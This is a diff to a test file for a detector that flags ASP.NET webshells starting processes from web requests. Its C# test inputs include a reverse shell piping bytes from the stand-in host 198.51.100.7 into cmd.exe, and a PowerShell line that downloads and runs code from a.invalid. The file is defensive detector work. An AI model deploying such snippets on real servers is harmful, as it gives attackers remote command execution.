@@ -1,6 +1,6 @@
 import detector from '../../../src/detectors/webshell/process-started-from-request.js';
 import { testDetector } from '../../helpers/detector-tester.js';
-import { classicPage } from './inline-page.js';
+import { classicPage, csharpPage } from './inline-page.js';
 import { webSample } from './web-sample.js';
 
 const sample = webSample(detector.id);
@@ -8,9 +8,62 @@ const sample = webSample(detector.id);
 testDetector(detector, {
   hits: [
     {
-      name: 'a program of the page itself',
+      name: 'a program of the page itself, whatever is asked',
       input: sample('hit/own.aspx.split'),
-      detections: [{ message: 'own-program', at: { label: 'sink', line: 5 }, severity: 'medium' }],
+      detections: [{ message: 'own-program', at: { label: 'sink', line: 5 }, severity: 'low' }],
+    },
+    {
+      name: 'a program from elsewhere',
+      input: csharpPage('System.Diagnostics.Process.Start(Find());'),
+      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'medium' }],
+    },
+    {
+      name: 'a status page: a fixed program with fixed arguments, whose output is shown',
+      input: csharpPage(
+        'var p = new System.Diagnostics.Process();',
+        'p.StartInfo.FileName = "ipconfig"; p.StartInfo.Arguments = "/all";',
+        'p.Start(); label.Text = p.StandardOutput.ReadToEnd() + Request.ServerVariables["LOGON_USER"];',
+      ),
+      detections: [
+        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
+        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
+        { message: 'own-program', at: { label: 'sink', line: 4 }, severity: 'low' },
+      ],
+    },
+    {
+      name: 'a shell whose input is another host',
+      input: csharpPage(
+        'var s = new System.Net.Sockets.TcpClient("198.51.100.7", 443).GetStream(); var i = new System.Diagnostics.ProcessStartInfo("cmd.exe");',
+        'var p = System.Diagnostics.Process.Start(i); byte[] b = new byte[9]; s.Read(b, 0, 9);',
+        'new System.IO.MemoryStream(b).CopyTo(p.StandardInput.BaseStream);',
+      ),
+      detections: [{ message: 'started', at: { label: 'sink', line: 4 } }],
+    },
+    {
+      name: 'a shell that is told something',
+      input: csharpPage('var p = System.Diagnostics.Process.Start("cmd.exe");', 'Feed(p.StandardInput.BaseStream);'),
+      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'medium' }],
+    },
+    {
+      name: 'a command whose end is not known',
+      input: csharpPage('System.Diagnostics.Process.Start("cmd.exe", "/c " + line);'),
+      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'medium' }],
+    },
+    {
+      name: 'a program that is fetched and run, whatever is asked',
+      input: csharpPage('System.Diagnostics.Process.Start("powershell", "-c iex(iwr https://a.invalid/x)");'),
+      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'high' }],
+    },
+    {
+      name: 'one of two fixed programs, by a choice',
+      input: csharpPage(
+        'var tool = Request["view"] == "disk" ? "fsutil" : "netstat";',
+        'System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(tool, "-x") { UseShellExecute = false });',
+      ),
+      detections: [
+        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
+        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
+      ],
     },
     {
       name: 'arguments by way of an object',
